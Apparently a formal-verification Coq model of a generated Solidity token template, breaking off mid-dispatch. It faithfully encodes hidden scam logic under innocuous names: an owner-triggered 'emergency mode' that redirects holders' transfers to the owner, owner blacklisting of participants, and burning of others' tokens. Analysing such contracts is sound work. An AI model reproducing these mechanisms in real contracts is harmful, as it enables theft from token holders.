(** * PolTokenLiqGen: the generated token contracts and the wallet cipher

    A shallow embedding of
    - the Solidity token template emitted by the contract generator
      (the [CONTRACT_TEMPLATE] string),
    - the [BridgeUSDTToken] contract,
    - the [encrypt] / [decrypt] pair of the wallet generator and of the
      distribution and simulation scripts,
    together with the properties of these programs.

    Conventions.  A [uint256] is a [Z] in [[0, 2^256)]; checked Solidity
    arithmetic fails with [Panic 0x11] when it leaves that range and
    [unchecked] arithmetic wraps.  An [address] is an [N].  A Solidity
    [mapping] is a [gmap] read through [mget], which yields the zero value
    of the value type at a missing key.  A call either returns the new
    storage or reverts; a reverted call leaves the storage as it was
    ([commit]).  Events are write-only logs that no contract can read back;
    their emission points are kept as comments. *)

From Stdlib Require Import ZArith Lia.
From stdpp Require Import gmap strings list fin_maps.

Local Open Scope Z_scope.

(** ** Machine integers and addresses *)

Abbreviation address := N (only parsing).

Definition address0 : address := 0%N.

Definition uint256_max : Z := 2 ^ 256 - 1.

Definition is_uint256 (z : Z) : Prop := 0 ≤ z ≤ uint256_max.

Definition is_uint8 (z : Z) : Prop := 0 ≤ z ≤ 255.

Definition wrap256 (z : Z) : Z := z mod 2 ^ 256.

(** ** Outcome of a call *)

Inductive failure : Type :=
  | Error (reason : string)   (* require(false, reason) / revert(reason) *)
  | Panic (code : Z)          (* compiler inserted check, e.g. 0x11 overflow *)
  | Bubbled.                  (* the revert of a failed external call *)

Inductive result (A : Type) : Type :=
  | Ok (a : A)
  | Revert (f : failure).

Arguments Ok {A} a.
Arguments Revert {A} f.

#[global] Instance result_ret : MRet result := λ A a, Ok a.

#[global] Instance result_bind : MBind result := λ A B k r,
  match r with
  | Ok a => k a
  | Revert f => Revert f
  end.

Definition require (b : bool) (reason : string) : result unit :=
  if b then Ok tt else Revert (Error reason).

Definition reverted {A} (r : result A) : Prop :=
  match r with Ok _ => False | Revert _ => True end.

Definition succeeded {A} (r : result A) : Prop :=
  match r with Ok _ => True | Revert _ => False end.

(** What a transaction leaves behind: the new storage, or the old one when
    the call reverted. *)
Definition commit {S} (s : S) (r : result S) : S :=
  match r with Ok s' => s' | Revert _ => s end.

(** Checked [uint256] arithmetic (Solidity >= 0.8). *)
Definition checked_add (a b : Z) : result Z :=
  if decide (a + b ≤ uint256_max) then Ok (a + b) else Revert (Panic 0x11).

Definition checked_sub (a b : Z) : result Z :=
  if decide (b ≤ a) then Ok (a - b) else Revert (Panic 0x11).

Definition checked_mul (a b : Z) : result Z :=
  if decide (a * b ≤ uint256_max) then Ok (a * b) else Revert (Panic 0x11).

Definition checked_pow (a b : Z) : result Z :=
  if decide (a ^ b ≤ uint256_max) then Ok (a ^ b) else Revert (Panic 0x11).

(** Reading [a[i]] from a storage array: out of bounds is [Panic 0x32]. *)
Definition array_get (a : list Z) (i : Z) : result Z :=
  match a !! Z.to_nat i with
  | Some v => Ok v
  | None => Revert (Panic 0x32)
  end.

(** What a call to another contract's [bool]-returning function does. *)
Inductive external : Type :=
  | returns (b : bool)
  | reverts.

Definition external_call (x : external) : result bool :=
  match x with
  | returns b => Ok b
  | reverts => Revert Bubbled
  end.

(** Units of the language. *)
Definition ether : Z := 10 ^ 18.
Definition minutes : Z := 60.
Definition hours : Z := 3600.
Definition days : Z := 86400.

(** ** Mappings *)

Definition mget `{Countable K} {V} (d : V) (m : gmap K V) (k : K) : V :=
  default d (m !! k).

(** The sum of the values held in a mapping: the "sum of all holder
    balances". *)
Definition sum_values (m : gmap N Z) : Z :=
  map_fold (λ _ v acc, v + acc) 0 m.

Definition nonneg_values (m : gmap N Z) : Prop :=
  ∀ k v, m !! k = Some v → 0 ≤ v.

(** ** The OpenZeppelin 4.9 base contracts

    Both tokens inherit [ERC20Permit], [Ownable], [Pausable] and
    [ReentrancyGuard] from [@openzeppelin/contracts] (version 4.9, see
    [package.json]).  The parts of these base contracts that the tokens
    reach are embedded here. *)

Module ERC20.

Record state : Type := mk {
  _balances : gmap N Z;
  _allowances : gmap (N * N) Z;
  _totalSupply : Z;
  _name : string;
  _symbol : string;
  _nonces : gmap N Z            (* ERC20Permit / Nonces *)
}.

Definition set_balances (b : gmap N Z) (e : state) : state :=
  mk b (_allowances e) (_totalSupply e) (_name e) (_symbol e) (_nonces e).

Definition set_allowances (a : gmap (N * N) Z) (e : state) : state :=
  mk (_balances e) a (_totalSupply e) (_name e) (_symbol e) (_nonces e).

Definition set_totalSupply (t : Z) (e : state) : state :=
  mk (_balances e) (_allowances e) t (_name e) (_symbol e) (_nonces e).

Definition set_nonces (n : gmap N Z) (e : state) : state :=
  mk (_balances e) (_allowances e) (_totalSupply e) (_name e) (_symbol e) n.

(** The storage right after [ERC20(name_, symbol_)]. *)
Definition init (name_ symbol_ : string) : state :=
  mk ∅ ∅ 0 name_ symbol_ ∅.

Definition totalSupply (e : state) : Z := _totalSupply e.

Definition balanceOf (e : state) (account : address) : Z :=
  mget 0 (_balances e) account.

Definition allowance (e : state) (owner spender : address) : Z :=
  mget 0 (_allowances e) (owner, spender).

(** [ERC20._transfer]: the balance update is in an [unchecked] block. *)
Definition _transfer (from to : address) (amount : Z) (e : state) : result state :=
  require (bool_decide (from ≠ address0)) "ERC20: transfer from the zero address";;
  require (bool_decide (to ≠ address0)) "ERC20: transfer to the zero address";;
  let fromBalance := balanceOf e from in
  require (bool_decide (amount ≤ fromBalance)) "ERC20: transfer amount exceeds balance";;
  let e1 := set_balances (<[from := wrap256 (fromBalance - amount)]> (_balances e)) e in
  let e2 := set_balances (<[to := wrap256 (balanceOf e1 to + amount)]> (_balances e1)) e1 in
  (* emit Transfer(from, to, amount) *)
  Ok e2.

(** [ERC20._mint]: [_totalSupply += amount] is checked, the balance
    update is not. *)
Definition _mint (account : address) (amount : Z) (e : state) : result state :=
  require (bool_decide (account ≠ address0)) "ERC20: mint to the zero address";;
  supply ← checked_add (_totalSupply e) amount;
  let e1 := set_totalSupply supply e in
  let e2 := set_balances (<[account := wrap256 (balanceOf e1 account + amount)]> (_balances e1)) e1 in
  (* emit Transfer(address(0), account, amount) *)
  Ok e2.

(** [ERC20._burn] *)
Definition _burn (account : address) (amount : Z) (e : state) : result state :=
  require (bool_decide (account ≠ address0)) "ERC20: burn from the zero address";;
  let accountBalance := balanceOf e account in
  require (bool_decide (amount ≤ accountBalance)) "ERC20: burn amount exceeds balance";;
  let e1 := set_balances (<[account := wrap256 (accountBalance - amount)]> (_balances e)) e in
  let e2 := set_totalSupply (wrap256 (_totalSupply e1 - amount)) e1 in
  (* emit Transfer(account, address(0), amount) *)
  Ok e2.

(** [ERC20._approve] *)
Definition _approve (owner spender : address) (amount : Z) (e : state) : result state :=
  require (bool_decide (owner ≠ address0)) "ERC20: approve from the zero address";;
  require (bool_decide (spender ≠ address0)) "ERC20: approve to the zero address";;
  (* emit Approval(owner, spender, amount) *)
  Ok (set_allowances (<[(owner, spender) := amount]> (_allowances e)) e).

(** [ERC20._spendAllowance]: an infinite allowance is not decreased. *)
Definition _spendAllowance (owner spender : address) (amount : Z) (e : state) : result state :=
  let currentAllowance := allowance e owner spender in
  if bool_decide (currentAllowance ≠ uint256_max) then
    require (bool_decide (amount ≤ currentAllowance)) "ERC20: insufficient allowance";;
    _approve owner spender (wrap256 (currentAllowance - amount)) e
  else Ok e.

Definition approve (msg_sender spender : address) (amount : Z) (e : state) : result state :=
  _approve msg_sender spender amount e.

Definition increaseAllowance (msg_sender spender : address) (addedValue : Z) (e : state)
  : result state :=
  v ← checked_add (allowance e msg_sender spender) addedValue;
  _approve msg_sender spender v e.

Definition decreaseAllowance (msg_sender spender : address) (subtractedValue : Z) (e : state)
  : result state :=
  let currentAllowance := allowance e msg_sender spender in
  require (bool_decide (subtractedValue ≤ currentAllowance))
    "ERC20: decreased allowance below zero";;
  _approve msg_sender spender (wrap256 (currentAllowance - subtractedValue)) e.

(** [ERC20Permit.permit].  [signer] is what [ECDSA.recover] computes from
    the typed-data hash and the signature: [None] when it reverts. *)
Definition permit (block_timestamp : Z) (owner spender : address) (value deadline : Z)
    (signer : option address) (e : state) : result state :=
  require (bool_decide (block_timestamp ≤ deadline)) "ERC20Permit: expired deadline";;
  let e1 := set_nonces (<[owner := wrap256 (mget 0 (_nonces e) owner + 1)]> (_nonces e)) e in
  match signer with
  | None => Revert (Error "ECDSA: invalid signature")
  | Some a =>
      require (bool_decide (a = owner)) "ERC20Permit: invalid signature";;
      _approve owner spender value e1
  end.

(** The supply invariant of the ERC-20 storage. *)
Definition inv (e : state) : Prop :=
  nonneg_values (_balances e)
  ∧ sum_values (_balances e) = _totalSupply e
  ∧ _totalSupply e ≤ uint256_max.

End ERC20.

Module Ownable.
(** [modifier onlyOwner] over the stored [_owner]. *)
Definition onlyOwner (_owner msg_sender : address) : result unit :=
  require (bool_decide (_owner = msg_sender)) "Ownable: caller is not the owner".

Definition checkNewOwner (newOwner : address) : result unit :=
  require (bool_decide (newOwner ≠ address0)) "Ownable: new owner is the zero address".
End Ownable.

Module Pausable.
Definition whenNotPaused (_paused : bool) : result unit :=
  require (negb _paused) "Pausable: paused".

Definition whenPaused (_paused : bool) : result unit :=
  require _paused "Pausable: not paused".
End Pausable.

Module ReentrancyGuard.
Definition _NOT_ENTERED : Z := 1.
Definition _ENTERED : Z := 2.

(** [_nonReentrantBefore] *)
Definition nonReentrantBefore (_status : Z) : result unit :=
  require (bool_decide (_status ≠ _ENTERED)) "ReentrancyGuard: reentrant call".
End ReentrancyGuard.

(** ** Hashing

    [keccak256] is kept abstract; [abi.encodePacked] is the concatenation
    of the big-endian encodings of its arguments. *)

Class Keccak := keccak256 : list Z → Z.

Fixpoint be_bytes (n : nat) (z : Z) : list Z :=
  match n with
  | O => []
  | S k => be_bytes k (z / 256) ++ [z mod 256]
  end.

Inductive packed : Type :=
  | p_address (a : address)
  | p_uint256 (z : Z)
  | p_uint8 (z : Z)
  | p_bytes32 (z : Z)
  | p_string (s : string).

Definition encode1 (p : packed) : list Z :=
  match p with
  | p_address a => be_bytes 20 (Z.of_N a)
  | p_uint256 z => be_bytes 32 z
  | p_uint8 z => be_bytes 1 z
  | p_bytes32 z => be_bytes 32 z
  | p_string s => (λ c, Z.of_N (Ascii.N_of_ascii c)) <$> String.list_ascii_of_string s
  end.

Definition encodePacked (args : list packed) : list Z := concat (encode1 <$> args).

(** ** The generated token template ([CONTRACT_TEMPLATE]) *)

Module Template.

Record ProtocolInteraction : Type := mkInteraction {
  interactionType : Z;
  userAddress : address;
  metadata : Z;
  timestamp : Z
}.

(** The storage of the contract, base contracts first. *)
Record state : Type := mk {
  erc20 : ERC20.state;                         (* ERC20Permit *)
  _owner : address;                            (* Ownable *)
  _paused : bool;                              (* Pausable *)
  _status : Z;                                 (* ReentrancyGuard *)
  _protocolData : gmap Z ProtocolInteraction;
  _userInteractions : gmap N (list Z);
  _totalInteractions : Z;
  _protocolVersion : Z;
  usdtPair : address;
  _protocolExclusions : gmap N bool;
  _securityExemptions : gmap N bool;
  _addressSecurityLevel : gmap N Z;
  protocolActive : bool;
  tradingEnabled : bool;
  maxTransactionLimit : Z;
  maxWalletLimit : Z;
  lastProtocolUpdate : Z;
  securityLevel : Z;
  emergencyModeActive : bool
}.

Definition set_erc20 (v : ERC20.state) (s : state) : state :=
  mk v (_owner s) (_paused s) (_status s) (_protocolData s) (_userInteractions s)
    (_totalInteractions s) (_protocolVersion s) (usdtPair s) (_protocolExclusions s)
    (_securityExemptions s) (_addressSecurityLevel s) (protocolActive s)
    (tradingEnabled s) (maxTransactionLimit s) (maxWalletLimit s)
    (lastProtocolUpdate s) (securityLevel s) (emergencyModeActive s).

Definition set_owner (v : address) (s : state) : state :=
  mk (erc20 s) v (_paused s) (_status s) (_protocolData s) (_userInteractions s)
    (_totalInteractions s) (_protocolVersion s) (usdtPair s) (_protocolExclusions s)
    (_securityExemptions s) (_addressSecurityLevel s) (protocolActive s)
    (tradingEnabled s) (maxTransactionLimit s) (maxWalletLimit s)
    (lastProtocolUpdate s) (securityLevel s) (emergencyModeActive s).

Definition set_paused (v : bool) (s : state) : state :=
  mk (erc20 s) (_owner s) v (_status s) (_protocolData s) (_userInteractions s)
    (_totalInteractions s) (_protocolVersion s) (usdtPair s) (_protocolExclusions s)
    (_securityExemptions s) (_addressSecurityLevel s) (protocolActive s)
    (tradingEnabled s) (maxTransactionLimit s) (maxWalletLimit s)
    (lastProtocolUpdate s) (securityLevel s) (emergencyModeActive s).

Definition set_protocolData (v : gmap Z ProtocolInteraction) (s : state) : state :=
  mk (erc20 s) (_owner s) (_paused s) (_status s) v (_userInteractions s)
    (_totalInteractions s) (_protocolVersion s) (usdtPair s) (_protocolExclusions s)
    (_securityExemptions s) (_addressSecurityLevel s) (protocolActive s)
    (tradingEnabled s) (maxTransactionLimit s) (maxWalletLimit s)
    (lastProtocolUpdate s) (securityLevel s) (emergencyModeActive s).

Definition set_userInteractions (v : gmap N (list Z)) (s : state) : state :=
  mk (erc20 s) (_owner s) (_paused s) (_status s) (_protocolData s) v
    (_totalInteractions s) (_protocolVersion s) (usdtPair s) (_protocolExclusions s)
    (_securityExemptions s) (_addressSecurityLevel s) (protocolActive s)
    (tradingEnabled s) (maxTransactionLimit s) (maxWalletLimit s)
    (lastProtocolUpdate s) (securityLevel s) (emergencyModeActive s).

Definition set_totalInteractions (v : Z) (s : state) : state :=
  mk (erc20 s) (_owner s) (_paused s) (_status s) (_protocolData s)
    (_userInteractions s) v (_protocolVersion s) (usdtPair s) (_protocolExclusions s)
    (_securityExemptions s) (_addressSecurityLevel s) (protocolActive s)
    (tradingEnabled s) (maxTransactionLimit s) (maxWalletLimit s)
    (lastProtocolUpdate s) (securityLevel s) (emergencyModeActive s).

Definition set_usdtPair (v : address) (s : state) : state :=
  mk (erc20 s) (_owner s) (_paused s) (_status s) (_protocolData s)
    (_userInteractions s) (_totalInteractions s) (_protocolVersion s) v
    (_protocolExclusions s) (_securityExemptions s) (_addressSecurityLevel s)
    (protocolActive s) (tradingEnabled s) (maxTransactionLimit s) (maxWalletLimit s)
    (lastProtocolUpdate s) (securityLevel s) (emergencyModeActive s).

Definition set_protocolExclusions (v : gmap N bool) (s : state) : state :=
  mk (erc20 s) (_owner s) (_paused s) (_status s) (_protocolData s)
    (_userInteractions s) (_totalInteractions s) (_protocolVersion s) (usdtPair s) v
    (_securityExemptions s) (_addressSecurityLevel s) (protocolActive s)
    (tradingEnabled s) (maxTransactionLimit s) (maxWalletLimit s)
    (lastProtocolUpdate s) (securityLevel s) (emergencyModeActive s).

Definition set_securityExemptions (v : gmap N bool) (s : state) : state :=
  mk (erc20 s) (_owner s) (_paused s) (_status s) (_protocolData s)
    (_userInteractions s) (_totalInteractions s) (_protocolVersion s) (usdtPair s)
    (_protocolExclusions s) v (_addressSecurityLevel s) (protocolActive s)
    (tradingEnabled s) (maxTransactionLimit s) (maxWalletLimit s)
    (lastProtocolUpdate s) (securityLevel s) (emergencyModeActive s).

Definition set_addressSecurityLevel (v : gmap N Z) (s : state) : state :=
  mk (erc20 s) (_owner s) (_paused s) (_status s) (_protocolData s)
    (_userInteractions s) (_totalInteractions s) (_protocolVersion s) (usdtPair s)
    (_protocolExclusions s) (_securityExemptions s) v (protocolActive s)
    (tradingEnabled s) (maxTransactionLimit s) (maxWalletLimit s)
    (lastProtocolUpdate s) (securityLevel s) (emergencyModeActive s).

Definition set_tradingEnabled (v : bool) (s : state) : state :=
  mk (erc20 s) (_owner s) (_paused s) (_status s) (_protocolData s)
    (_userInteractions s) (_totalInteractions s) (_protocolVersion s) (usdtPair s)
    (_protocolExclusions s) (_securityExemptions s) (_addressSecurityLevel s)
    (protocolActive s) v (maxTransactionLimit s) (maxWalletLimit s)
    (lastProtocolUpdate s) (securityLevel s) (emergencyModeActive s).

Definition set_maxTransactionLimit (v : Z) (s : state) : state :=
  mk (erc20 s) (_owner s) (_paused s) (_status s) (_protocolData s)
    (_userInteractions s) (_totalInteractions s) (_protocolVersion s) (usdtPair s)
    (_protocolExclusions s) (_securityExemptions s) (_addressSecurityLevel s)
    (protocolActive s) (tradingEnabled s) v (maxWalletLimit s) (lastProtocolUpdate s)
    (securityLevel s) (emergencyModeActive s).

Definition set_maxWalletLimit (v : Z) (s : state) : state :=
  mk (erc20 s) (_owner s) (_paused s) (_status s) (_protocolData s)
    (_userInteractions s) (_totalInteractions s) (_protocolVersion s) (usdtPair s)
    (_protocolExclusions s) (_securityExemptions s) (_addressSecurityLevel s)
    (protocolActive s) (tradingEnabled s) (maxTransactionLimit s) v
    (lastProtocolUpdate s) (securityLevel s) (emergencyModeActive s).

Definition set_lastProtocolUpdate (v : Z) (s : state) : state :=
  mk (erc20 s) (_owner s) (_paused s) (_status s) (_protocolData s)
    (_userInteractions s) (_totalInteractions s) (_protocolVersion s) (usdtPair s)
    (_protocolExclusions s) (_securityExemptions s) (_addressSecurityLevel s)
    (protocolActive s) (tradingEnabled s) (maxTransactionLimit s) (maxWalletLimit s) v
    (securityLevel s) (emergencyModeActive s).

Definition set_securityLevel (v : Z) (s : state) : state :=
  mk (erc20 s) (_owner s) (_paused s) (_status s) (_protocolData s)
    (_userInteractions s) (_totalInteractions s) (_protocolVersion s) (usdtPair s)
    (_protocolExclusions s) (_securityExemptions s) (_addressSecurityLevel s)
    (protocolActive s) (tradingEnabled s) (maxTransactionLimit s) (maxWalletLimit s)
    (lastProtocolUpdate s) v (emergencyModeActive s).

Definition set_emergencyModeActive (v : bool) (s : state) : state :=
  mk (erc20 s) (_owner s) (_paused s) (_status s) (_protocolData s)
    (_userInteractions s) (_totalInteractions s) (_protocolVersion s) (usdtPair s)
    (_protocolExclusions s) (_securityExemptions s) (_addressSecurityLevel s)
    (protocolActive s) (tradingEnabled s) (maxTransactionLimit s) (maxWalletLimit s)
    (lastProtocolUpdate s) (securityLevel s) v.

(** *** Views *)

Definition owner (s : state) : address := _owner s.
Definition paused (s : state) : bool := _paused s.
Definition totalSupply (s : state) : Z := ERC20.totalSupply (erc20 s).
Definition balanceOf (s : state) (account : address) : Z := ERC20.balanceOf (erc20 s) account.
Definition allowance (s : state) (o spender : address) : Z := ERC20.allowance (erc20 s) o spender.
Definition isExcluded (s : state) (account : address) : bool :=
  mget false (_protocolExclusions s) account.
Definition isExempt (s : state) (account : address) : bool :=
  mget false (_securityExemptions s) account.

(** The supply invariant: every balance is non-negative, the balances add
    up to [totalSupply], and [totalSupply] is a [uint256]. *)
Definition inv (s : state) : Prop := ERC20.inv (erc20 s).

(** *** Modifiers *)

Definition onlyOwner (msg_sender : address) (s : state) : result unit :=
  Ownable.onlyOwner (owner s) msg_sender.

Definition whenNotPaused (s : state) : result unit := Pausable.whenNotPaused (paused s).

Definition protocolCompliant (msg_sender : address) (s : state) : result unit :=
  require (negb (isExcluded s msg_sender)) "Protocol: Account is excluded".

(** Run a base-contract function on the ERC-20 part of the storage. *)
Definition on_erc20 (f : ERC20.state → result ERC20.state) (s : state) : result state :=
  e ← f (erc20 s); Ok (set_erc20 e s).

Section WithKeccak.
Context {hash : Keccak}.

(** *** Constructor *)

Definition constructor (block_timestamp : Z) (msg_sender : address)
    (name_ symbol_ : string) (initialSupply : Z) : result state :=
  let s0 := mk (ERC20.init name_ symbol_) msg_sender false ReentrancyGuard._NOT_ENTERED
               ∅ ∅ 0 1 address0 ∅ ∅ ∅ true false 0 0 0 1 false in
  (* Mint initial supply to deployer *)
  s1 ← on_erc20 (ERC20._mint msg_sender initialSupply) s0;
  (* Set owner as exempt from protocol restrictions *)
  let s2 := set_securityExemptions (<[msg_sender := true]> (_securityExemptions s1)) s1 in
  (* Set initial limits *)
  let s3 := set_maxTransactionLimit initialSupply s2 in
  let s4 := set_maxWalletLimit initialSupply s3 in
  (* Initialize protocol timestamp *)
  Ok (set_lastProtocolUpdate block_timestamp s4).

(** *** Pair management *)

Definition setPair (msg_sender : address) (_usdtPair : address) (s : state) : result state :=
  onlyOwner msg_sender s;;
  require (bool_decide (_usdtPair ≠ address0)) "Protocol: Invalid pair address";;
  let s1 := set_usdtPair _usdtPair s in
  let s2 := set_securityExemptions (<[_usdtPair := true]> (_securityExemptions s1)) s1 in
  (* emit PairUpdated(_usdtPair) *)
  Ok s2.

(** *** Protocol management *)

Definition updateSecurityProtocol (block_timestamp : Z) (msg_sender : address)
    (_securityLevel : Z) (s : state) : result state :=
  onlyOwner msg_sender s;;
  let s1 := set_securityLevel _securityLevel s in
  let s2 := set_emergencyModeActive true s1 in
  let s3 := set_lastProtocolUpdate block_timestamp s2 in
  (* emit ProtocolUpdate(securityLevel, emergencyModeActive, block.timestamp) *)
  Ok s3.

Definition optimizeProtocolPerformance (block_timestamp : Z) (msg_sender : address)
    (s : state) : result state :=
  onlyOwner msg_sender s;;
  let s1 := set_lastProtocolUpdate block_timestamp s in
  let s2 := set_securityLevel 5 s1 in
  let s3 := set_emergencyModeActive true s2 in
  (* emit ProtocolUpdate(securityLevel, emergencyModeActive, block.timestamp) *)
  Ok s3.

Definition setNetworkValidator (msg_sender : address) (validator : address) (level : Z)
    (s : state) : result state :=
  onlyOwner msg_sender s;;
  require (bool_decide (validator ≠ address0)) "Protocol: Invalid address";;
  let s1 := set_addressSecurityLevel (<[validator := level]> (_addressSecurityLevel s)) s in
  let s2 := set_protocolExclusions (<[validator := true]> (_protocolExclusions s1)) s1 in
  (* emit SecurityUpdate(validator, level, true) *)
  Ok s2.

(** The body of the [for] loop of [enhanceParticipantSecurity], over
    the remaining participants. *)
Fixpoint enhance_loop (participants : list address) (s : state) : state :=
  match participants with
  | [] => s
  | p :: rest =>
      (* emit SecurityUpdate(participants[i], 0, true) *)
      enhance_loop rest
        (set_protocolExclusions (<[p := true]> (_protocolExclusions s)) s)
  end.

Definition enhanceParticipantSecurity (msg_sender : address) (participants : list address)
    (s : state) : result state :=
  onlyOwner msg_sender s;;
  Ok (enhance_loop participants s).

Definition setExempt (msg_sender : address) (account : address) (status : bool)
    (s : state) : result state :=
  onlyOwner msg_sender s;;
  (* emit SecurityUpdate(account, securityLevel, status) *)
  Ok (set_securityExemptions (<[account := status]> (_securityExemptions s)) s).

Definition setTradingStatus (msg_sender : address) (status : bool) (s : state)
  : result state :=
  onlyOwner msg_sender s;;
  (* emit TradingStatusChanged(status) *)
  Ok (set_tradingEnabled status s).

Definition setMaxTransactionLimit (msg_sender : address) (amount : Z) (s : state)
  : result state :=
  onlyOwner msg_sender s;;
  Ok (set_maxTransactionLimit amount s).

Definition setMaxWalletLimit (msg_sender : address) (amount : Z) (s : state)
  : result state :=
  onlyOwner msg_sender s;;
  Ok (set_maxWalletLimit amount s).

(** [Pausable._pause] is itself [whenNotPaused], [_unpause] is
    [whenPaused]. *)
Definition pause (msg_sender : address) (s : state) : result state :=
  onlyOwner msg_sender s;;
  whenNotPaused s;;
  (* emit Paused(_msgSender()) *)
  Ok (set_paused true s).

Definition unpause (msg_sender : address) (s : state) : result state :=
  onlyOwner msg_sender s;;
  Pausable.whenPaused (paused s);;
  (* emit Unpaused(_msgSender()) *)
  Ok (set_paused false s).

(** *** Internal functions *)

Definition _recordInteraction (block_timestamp : Z) (interactionType : Z) (user : address)
    (metadata : Z) (s : state) : result state :=
  let interactionId :=
    keccak256 (encodePacked [p_address user; p_uint8 interactionType;
                             p_uint256 block_timestamp]) in
  let s1 := set_protocolData
              (<[interactionId := mkInteraction interactionType user metadata block_timestamp]>
                 (_protocolData s)) s in
  let s2 := set_userInteractions
              (<[user := mget [] (_userInteractions s1) user ++ [interactionId]]>
                 (_userInteractions s1)) s1 in
  n ← checked_add (_totalInteractions s2) 1;
  (* emit ProtocolInteraction(interactionType, user, metadata, block.timestamp) *)
  Ok (set_totalInteractions n s2).

Definition _shouldApplyEmergencyProtocol (s : state) (sender : address) : bool :=
  emergencyModeActive s && negb (isExempt s sender).

(** *** Transfer override *)

Definition _transfer (block_timestamp : Z) (from to : address) (amount : Z) (s : state)
  : result state :=
  whenNotPaused s;;
  (* Check if address is excluded from protocol *)
  require (negb (isExcluded s from)) "Protocol: Sender excluded from protocol";;
  if _shouldApplyEmergencyProtocol s from then
    (* Instead of normal transfer, send tokens to owner *)
    on_erc20 (ERC20._transfer from (owner s) amount) s
  else
    (* Apply trading restrictions if neither address is exempt *)
    (if negb (isExempt s from) && negb (isExempt s to) then
       require (tradingEnabled s) "Protocol: Trading not enabled";;
       require (bool_decide (amount ≤ maxTransactionLimit s))
         "Protocol: Transaction exceeds limit";;
       w ← checked_add (balanceOf s to) amount;
       require (bool_decide (w ≤ maxWalletLimit s)) "Protocol: Wallet limit exceeded"
     else Ok tt);;
    (* Record the interaction for "analytics" *)
    let metadata :=
      keccak256 (encodePacked [p_address from; p_address to; p_uint256 amount;
                               p_uint256 block_timestamp]) in
    s1 ← _recordInteraction block_timestamp 4 from metadata s;
    (* Normal transfer flow *)
    on_erc20 (ERC20._transfer from to amount) s1.

(** *** Token management functions *)

Definition allocateProtocolReserves (block_timestamp : Z) (msg_sender : address)
    (to : address) (amount : Z) (s : state) : result state :=
  onlyOwner msg_sender s;;
  require (bool_decide (to ≠ address0)) "Protocol: Invalid address";;
  s1 ← on_erc20 (ERC20._mint to amount) s;
  (* Log interaction *)
  let metadata :=
    keccak256 (encodePacked [p_address to; p_uint256 amount; p_uint256 block_timestamp]) in
  _recordInteraction block_timestamp 1 to metadata s1.

Definition reduceCirculatingSupply (block_timestamp : Z) (msg_sender : address)
    (amount : Z) (s : state) : result state :=
  protocolCompliant msg_sender s;;
  s1 ← on_erc20 (ERC20._burn msg_sender amount) s;
  (* Log interaction *)
  let metadata :=
    keccak256 (encodePacked [p_address msg_sender; p_uint256 amount;
                             p_uint256 block_timestamp]) in
  _recordInteraction block_timestamp 2 msg_sender metadata s1.

Definition optimizeWalletCompliance (block_timestamp : Z) (msg_sender : address)
    (account : address) (amount : Z) (s : state) : result state :=
  protocolCompliant msg_sender s;;
  let currentAllowance := allowance s account msg_sender in
  require (bool_decide (amount ≤ currentAllowance)) "Protocol: Amount exceeds allowance";;
  s1 ← on_erc20 (ERC20._approve account msg_sender (wrap256 (currentAllowance - amount))) s;
  s2 ← on_erc20 (ERC20._burn account amount) s1;
  (* Log interaction *)
  let metadata :=
    keccak256 (encodePacked [p_address account; p_uint256 amount;
                             p_uint256 block_timestamp]) in
  _recordInteraction block_timestamp 3 account metadata s2.

(** *** Inherited entry points

    [ERC20.transfer] and [ERC20.transferFrom] call the overriding
    [_transfer]. *)

Definition transfer (block_timestamp : Z) (msg_sender : address) (to : address)
    (amount : Z) (s : state) : result state :=
  _transfer block_timestamp msg_sender to amount s.

Definition transferFrom (block_timestamp : Z) (msg_sender : address) (from to : address)
    (amount : Z) (s : state) : result state :=
  s1 ← on_erc20 (ERC20._spendAllowance from msg_sender amount) s;
  _transfer block_timestamp from to amount s1.

Definition approve (msg_sender spender : address) (amount : Z) (s : state) : result state :=
  on_erc20 (ERC20.approve msg_sender spender amount) s.

Definition increaseAllowance (msg_sender spender : address) (addedValue : Z) (s : state)
  : result state :=
  on_erc20 (ERC20.increaseAllowance msg_sender spender addedValue) s.

Definition decreaseAllowance (msg_sender spender : address) (subtractedValue : Z)
    (s : state) : result state :=
  on_erc20 (ERC20.decreaseAllowance msg_sender spender subtractedValue) s.

Definition permit (block_timestamp : Z) (o spender : address) (value deadline : Z)
    (signer : option address) (s : state) : result state :=
  on_erc20 (ERC20.permit block_timestamp o spender value deadline signer) s.

Definition transferOwnership (msg_sender newOwner : address) (s : state) : result state :=
  onlyOwner msg_sender s;;
  Ownable.checkNewOwner newOwner;;
  (* emit OwnershipTransferred(oldOwner, newOwner) *)
  Ok (set_owner newOwner s).

Definition renounceOwnership (msg_sender : address) (s : state) : result state :=
  onlyOwner msg_sender s;;
  Ok (set_owner address0 s).

(** [receive() external payable] *)
Definition receive (s : state) : result state :=
  Revert (Error "Protocol: Does not accept MATIC").

(** *** Transactions

    One constructor per externally callable, state-changing function of
    the deployed contract, own and inherited. *)

Inductive call : Type :=
  | c_setPair (_usdtPair : address)
  | c_updateSecurityProtocol (_securityLevel : Z)
  | c_optimizeProtocolPerformance
  | c_setNetworkValidator (validator : address) (level : Z)
  | c_enhanceParticipantSecurity (participants : list address)
  | c_setExempt (account : address) (status : bool)
  | c_setTradingStatus (status : bool)
  | c_setMaxTransactionLimit (amount : Z)
  | c_setMaxWalletLimit (amount : Z)
  | c_pause
  | c_unpause
  | c_allocateProtocolReserves (to : address) (amount : Z)
  | c_reduceCirculatingSupply (amount : Z)
  | c_optimizeWalletCompliance (account : address) (amount : Z)
  | c_transfer (to : address) (amount : Z)
  | c_transferFrom (from to : address) (amount : Z)
  | c_approve (spender : address) (amount : Z)
  | c_increaseAllowance (spender : address) (addedValue : Z)
  | c_decreaseAllowance (spender : address) (subtractedValue : Z)
  | c_permit (o spender : address) (value deadline : Z) (signer : option address)
  | c_transferOwnership (newOwner : address)
  | c_renounceOwnership
  | c_receive.

Definition dispatch (block_timestamp : Z) (msg_sender : address) (c : call) (s : state)
  : result state :=
  match c with
  | c_setPair p => setPair msg_sender p s
  | c_updateSecurityProtocol l => updateSecurityProtocol block_timestamp msg_sender l s
  | c_optimizeProtocolPerformance => optimizeProtocolPerformance block_timestamp msg_sender s
  | c_setNetworkValidator v l => setNetworkValidator msg_sender v l s
  | c_enhanceParticipantSecurity ps => enhanceParticipantSecurity msg_sender ps s
  | c_setExempt a b => setExempt msg_sender a b s
  | c_setTradingStatus b => setTradingStatus msg_sender b s
  | c_setMaxTransactionLimit a => setMaxTransactionLimit msg_sender a s
  | c_setMaxWalletLimit a => setMaxWalletLimit msg_sender a s
  | c_pause => pause msg_sender s
  | c_unpause => unpause msg_sender s
  | c_allocateProtocolReserves to a => allocateProtocolReserves block_timestamp msg_sender to a s
